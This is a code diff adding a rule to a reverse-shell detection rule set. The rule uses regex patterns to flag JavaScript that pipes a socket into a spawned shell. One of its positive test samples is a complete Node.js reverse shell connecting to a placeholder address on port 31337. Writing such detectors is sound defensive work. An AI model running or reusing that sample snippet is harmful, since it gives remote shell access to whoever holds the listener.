@@ -459,5 +459,29 @@ export const reverseShell: RuleSet = {
         rb('$stdout.reopen(log)\nexec "/bin/sh", "-c", cmd'),
       ],
     },
+    {
+      id: id('node-pipes'),
+      severity: 'critical',
+      why: 'Joins a connection with the streams of a shell.',
+      when: near(
+        8,
+        is(['.pipe('], /\.pipe\(\s*(?:sh|shell|cmd|proc|child|p|cp)\w{0,8}\.stdin\s*\)/, {
+          families: ['js'],
+          before: 40,
+        }),
+        is(['.stdout.pipe('], null, { families: ['js'] }),
+        is(['spawn('], /spawn\([^)\n]{0,120}(?:\/bin\/(?:ba)?sh|cmd\.exe|powershell)/, {
+          families: ['js'],
+          after: 160,
+        }),
+        is(['connect(', 'net.socket', 'websocket('], null, { families: ['js'] }),
+      ),
+      matches: [
+        js(
+          "const shell = spawn(process.platform === 'win32' ? 'powershell.exe' : '/bin/sh', ['-i'])\nconst socket = connect({ host: '203.0.113.1', port: 31337 }, () => {\n  socket.pipe(shell.stdin)\n  shell.stdout.pipe(socket)\n})",
+        ),
+      ],
+      misses: [js("const child = spawn('ffmpeg', args)\ninput.pipe(child.stdin)\nchild.stdout.pipe(out)")],
+    },
   ],
 }
